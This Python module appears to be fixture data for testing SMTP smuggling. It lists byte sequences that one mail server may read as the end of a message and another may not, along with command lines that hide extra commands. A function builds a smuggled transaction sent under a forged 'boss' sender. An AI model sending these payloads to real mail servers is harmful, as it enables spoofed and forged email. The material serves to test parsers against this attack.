"""What a message may hold so that one program sees its end there and another does not: the attacks, as data."""

HEAD = b"From: <a@client.test>\r\nSubject: t\r\nMessage-ID: <1@client.test>\r\nDate: Tue, 24 Nov 2026 10:00:00 +0000\r\n\r\n"

# Between a line of text and the transaction that hides behind it.
ENDINGS = {
    "LF . LF": b"\n.\n",
    "LF . CRLF": b"\n.\r\n",
    "CRLF . LF": b"\r\n.\n",
    "CR . CR": b"\r.\r",
    "CR . LF": b"\r.\n",
    "CR . CRLF": b"\r.\r\n",
    "LF . CR X": b"\n.\rX",
    "CRLF . CR X": b"\r\n.\rX",
    "CRLF . CR CRLF": b"\r\n.\r\r\n",
    "LF . CR CRLF": b"\n.\r\r\n",
    "CR CRLF . CR CRLF": b"\r\r\n.\r\r\n",
    "CRLF NUL . CRLF": b"\r\n\0.\r\n",
    "CRLF . NUL CRLF": b"\r\n.\0\r\n",
    "CRLF . NUL x CRLF": b"\r\n.\0x\r\n",
    "CR NUL LF . CRLF": b"\r\0\n.\r\n",
    "LF . NUL LF": b"\n.\0\n",
    "CRLF . blank CRLF": b"\r\n. \r\n",
    "CRLF . tab CRLF": b"\r\n.\t\r\n",
    "CRLF . VT CRLF": b"\r\n.\x0b\r\n",
    "CRLF . BS CRLF": b"\r\n.\x08\r\n",
    "CRLF . DEL CRLF": b"\r\n.\x7f\r\n",
    "CRLF . CRLF with the eighth bit": b"\x8d\x8a.\x8d\x8a",
    "a dot with the eighth bit": b"\r\n\xae\r\n",
    "NEL . NEL": b"\xc2\x85.\xc2\x85",
    "LS . LS": b"\xe2\x80\xa8.\xe2\x80\xa8",
    "LF CR . LF CR": b"\n\r.\n\r",
    "LF LF . LF LF": b"\n\n.\n\n",
    "LF CR LF . LF": b"\n\r\n.\n",
    "FF . FF": b"\x0c.\x0c",
}

# The very first octets behind the 354.
FIRST = {
    "first: . LF": b".\n",
    "first: . CR x": b".\rx",
    "first: . CR CRLF": b".\r\r\n",
    "first: . NUL CRLF": b".\0\r\n",
    "first: . LF CRLF": b".\n\r\n",
}

# A first header line that ends in a bare LF makes some read bare LF as a line end from there on.
LENIENT = {f"first line LF, later {name}": ENDINGS[name] for name in ("LF . LF", "LF . CRLF", "CRLF . LF")}

# Messages up to where the hidden transaction begins.
ATTACKS = {
    **{name: HEAD + b"text" + octets for name, octets in ENDINGS.items()},
    **FIRST,
    **{name: b"Subject: t\n" + HEAD + b"text" + octets for name, octets in LENIENT.items()},
}

# A true end with a bare CR before it: what follows is a client's next command by right.
TRUE_ENDS = {"CR CRLF . CRLF (a true end)": HEAD + b"text\r\r\n.\r\n"}

# Where octets are counted (BDAT), a true end is content like any other.
CHUNKED = {"CRLF . CRLF": HEAD + b"text\r\n.\r\n", "first: . CRLF": b".\r\n"}

# Commands, without the last CR LF, in which a lenient reader finds more than one.
LINES = {
    "NOOP LF NOOP": b"NOOP a\nNOOP b",
    "MAIL LF RSET": b"MAIL FROM:<a@b.test>\nRSET",
    "MAIL LF RCPT": b"MAIL FROM:<a@b.test>\nRCPT TO:<smuggled@any.example>",
    "MAIL CR RSET": b"MAIL FROM:<a@b.test>\rRSET",
    "MAIL NUL": b"MAIL FROM:<a@b.test>\0",
    "NOOP NUL NOOP": b"NOOP \0NOOP b",
    "NOOP at octet 16,384 of a NOOP": b"NOOP ".ljust(16384, b"x") + b"NOOP zz",
    "NOOP at octet 16,385 of a NOOP": b"NOOP ".ljust(16385, b"x") + b"NOOP zz",
    "MAIL at octet 16,384 of a NOOP": b"NOOP ".ljust(16384, b"x") + b"MAIL FROM:<boss@client.test>",
    "RSET at octet 32,768 of a NOOP": b"NOOP ".ljust(32768, b"x") + b"RSET",
}


def hidden(recipient):
    """The transaction that an attacker wants to be taken for another message, command by command."""
    return [b"MAIL FROM:<boss@client.test>\r\n", f"RCPT TO:<{recipient}>\r\n".encode(), b"DATA\r\n",
            b"Subject: smuggled\r\n\r\nx\r\n.\r\n"]
